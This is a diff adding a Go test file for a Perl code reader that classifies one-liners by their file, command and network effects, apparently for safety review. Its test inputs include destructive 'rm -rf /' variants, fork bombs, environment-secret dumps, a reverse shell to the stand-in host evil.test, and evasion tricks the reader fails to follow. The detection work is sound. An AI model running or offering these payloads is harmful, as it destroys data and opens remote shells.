@@ -1,0 +1,131 @@
+package perl
+
+import (
+	"strings"
+	"testing"
+
+	"automode/internal/mask"
+	"automode/internal/understand/code"
+)
+
+func facts(r code.Reading) string {
+	var list []string
+	for _, f := range r.Facts {
+		list = append(list, f.String())
+	}
+	if !r.Whole {
+		list = append(list, "?")
+	}
+	if len(list) == 0 {
+		return "nothing"
+	}
+	return strings.ReplaceAll(strings.Join(list, "; "), "\n", " ; ")
+}
+
+func TestRead(t *testing.T) {
+	for _, c := range []struct{ text, want string }{
+		// What a line is made of.
+		{`s/foo/bar/g`, `nothing`},
+		{`print if /x/`, `nothing`},
+		{`$n++ if /^\s*$/; END { print "$n\n" }`, `nothing`},
+		{`print "$F[0] $F[-1]\n" if $F[2] > 10`, `nothing`},
+		{`s{(\d+)}{$1+1}e; s|a|b|; s,a,b,; s!a!b!; m#y#; tr/a-z/A-Z/; y/a/b/`, `nothing`},
+		{`my %h; while(<>){ chomp; $h{$_}++ } print "$_ $h{$_}\n" for sort keys %h`, `nothing`},
+		{`print join(",", map { $_*2 } grep { $_ % 2 } 1..10), "\n"`, `nothing`},
+		{`local $/; $_=<STDIN>; s/a\nb/c/; print`, `nothing`},
+		{`@l = sort { $a <=> $b } @l; print "@l[0..2] $l[0]{x}->[1]\n"; print $#l + 1`, `nothing`},
+		{`use JSON::PP; my $d = decode_json(join '', <STDIN>); print $d->{name}, "\n"; print scalar(@{$d->{items}})`, `nothing`},
+		{`printf("%-10s %s\n", $F[0], $F[1]) if @F > 2; print STDERR "x"`, `nothing`},
+		{`print unless $. == 1 || eof; if (/a/ .. /b/) { print }`, `nothing`},
+		{`print "$1\n" while m{href="([^"]+)"}g`, `nothing`},
+		{`eval { die "x" }; print $@ if $@`, `nothing`},
+		{`print $ENV{HOME}`, `nothing`},
+		// Files.
+		{`open my $fh, '<', 'a.txt' or die $!; while (my $l = <$fh>) { print $l } close $fh`, `Read a.txt`},
+		{`open(my $o, '>', "/etc/passwd"); print $o "x"`, `Write /etc/passwd`},
+		{`open(F, ">>x"); print F "x"`, `Write x`},
+		{`unlink "/etc/passwd", "b"`, `Delete /etc/passwd; Delete b`},
+		{`rename "a", "b"; mkdir "c"; symlink "d", "e"`, `Delete{relocated} a/**; Write b; Write c; Read{listing} d; Write e`},
+		{`chmod 0777, "/etc/passwd"`, `Run[words] chmod 777 /etc/passwd`},
+		// Commands.
+		{`system("rm -rf /")`, `Run[line] rm -rf /`},
+		{`system "rm", "-rf", "/"`, `Run[words] rm -rf /`},
+		{"print `rm -rf /`; qx(ls)", `Run[line] rm -rf /; Run[line] ls`},
+		{`$c = "rm -rf /"; system($c)`, `Run[line] rm -rf /; Run[line] …`},
+		{`system("\x72\x6d -rf /")`, `Run[line] rm -rf /`},
+		{`open(F, "rm -rf / |"); print <F>`, `Run[line] rm -rf /`},
+		{`open(F, "| sh"); print F "x"`, `Run[line] cat | { sh ; }`},
+		{`open(F, "-|", "rm", "-rf", "/")`, `Run[words] rm -rf /`},
+		{`s/x/system("rm -rf \/")/e`, `Run[line] rm -rf /`},
+		{`print "@{[ system('rm -rf /') ]}"`, `Run[line] rm -rf /`},
+		{`sub f { my ($x) = @_; system($x) } f("rm -rf /")`, `Run[line] rm -rf /`},
+		{`BEGIN { system("rm -rf /") }`, `Run[line] rm -rf /`},
+		{`$SIG{ALRM} = sub { system("rm -rf /") }; alarm 1`, `Run[line] rm -rf /`},
+		{`fork while 1`, `Control{halts} itself`},
+		{`fork while fork`, `Control{halts} itself`},
+		{`while (1) { fork }`, `Control{halts} itself`},
+		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1234,inet_aton("evil.test"))); open(STDIN,">&S"); exec("/bin/sh -i")`,
+			`Send evil.test:1234; Run[line] cat | { /bin/sh -i ; }; Expose{tunnel} evil.test:1234`},
+		{`print "$_=$ENV{$_}\n" for keys %ENV`, `Disclose variables that hold secrets`},
+		{`eval "system('rm -rf /')"`, `Run[text perl] system('rm -rf /'); ?`},
+		{`use MIME::Base64; eval decode_base64("xx")`, `Run[text perl] …; ?`},
+		{`require "./x.pl"`, `Run[file perl] ./x.pl`},
+		// What is not followed.
+		{`@ARGV = ("rm -rf /|"); while(<>){}`, `?`},
+		{`push @ARGV, "id|"; while(<>){}`, `?`},
+		{`s/$/|/ for @ARGV; while(<>){}`, `?`},
+		{`my $a = \@ARGV; push @$a, "id|"`, `?`},
+		{`$ARGV[0] = "id|"`, `?`},
+		{`local @ARGV = ("id|"); <>`, `?`},
+		{`my $f = "system"; &$f("id")`, `?`},
+		{`*f = \&system; f("id")`, `?`},
+		{`"system"->("id")`, `?`},
+		{`/(?{ system("x") })/`, `?`},
+		{`s/x/y/ee`, `?`},
+		{`use Foo; Foo->bar`, `Run Foo; ?`},
+		{`unshift @INC, "x"; require Foo`, `Run Foo; ?`},
+		{`tie my $x, "Foo"`, `?`},
+		{"print <<E;\nx\nE\n", `?`},
+		{"1;\n=pod\n\nsystem 'x'\n\n=cut\n", `?`},
+		{`lc /x/`, `?`},
+		{`my $r = sub { $_[0] = "x" }`, `?`},
+		{`open(F, $x)`, `Run[line] …; ?`},
+	} {
+		r := Read(c.text, code.Setting{Home: "/home/dev", Secret: mask.SecretName})
+		if got := facts(r); got != c.want {
+			t.Errorf("%s\n got %s\nwant %s\n(%s)", c.text, got, c.want, r.Why)
+		}
+	}
+}
+
+// FuzzRead: no text stops the reader or keeps it busy, and one that was not
+// understood says why.
+func FuzzRead(f *testing.F) {
+	for _, s := range []string{
+		`my %h = (a => [1, {b => 2}]); for my $k (sort { $h{$a} <=> $h{$b} } keys %h) { printf "%s %s\n", $k, $h{$k}->[1]{b} // 0 }`,
+		`s{(\w+)}{ uc $1 }gex; tr/a/b/; m/$x[0]/; "@{[ map { $_ } 1 ]} ${\ f()} $$x $#{$y}"; print {$fh} qw(a b)`,
+		`open my $f, '<', shift or die; while (<$f>) { next unless /^a/ .. /^b/; last if eof } <<>>; <*.c>`,
+		"`a`; qx{b}; eval { 1 } or do { 2 }; -e $f && -d _; return unless defined wantarray",
+		strings.Repeat("(", 300), strings.Repeat("{", 300), strings.Repeat(`"@{[`, 100), strings.Repeat("!", 300),
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if len(s) > 4096 {
+			return
+		}
+		r := Read(s, code.Setting{})
+		if r.Whole != (r.Why == "") {
+			t.Errorf("whole %t, but %q", r.Whole, r.Why)
+		}
+	})
+}
+
+// What is nested too deep is not understood, and is read in no time.
+func TestDepth(t *testing.T) {
+	for _, s := range []string{"(", "[", "{", `"@{[`, "!", "\\", "$$", "${", "f(", "if(1){", "$x{", "-", "sub {", "map {", "a?b:", "s/x/", "my("} {
+		if r := Read(strings.Repeat(s, code.MaxText/len(s)), code.Setting{}); r.Whole {
+			t.Errorf("%s…: it was understood", s)
+		}
+	}
+}
